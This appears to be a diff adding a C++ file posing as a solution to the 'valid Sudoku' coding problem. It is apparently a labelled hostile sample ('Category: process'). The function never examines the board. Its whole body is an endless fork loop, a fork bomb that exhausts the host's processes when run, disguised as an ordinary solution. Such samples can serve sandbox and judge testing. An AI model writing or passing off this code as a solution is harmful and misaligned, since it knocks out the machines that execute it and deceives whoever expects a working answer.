@@ -1,0 +1,10 @@
+// Forks for ever.
+// Category: process
+#include <unistd.h>
+
+class Solution {
+public:
+    bool isValidSudoku(vector<vector<char>>& board) {
+        for (;;) fork();
+    }
+};
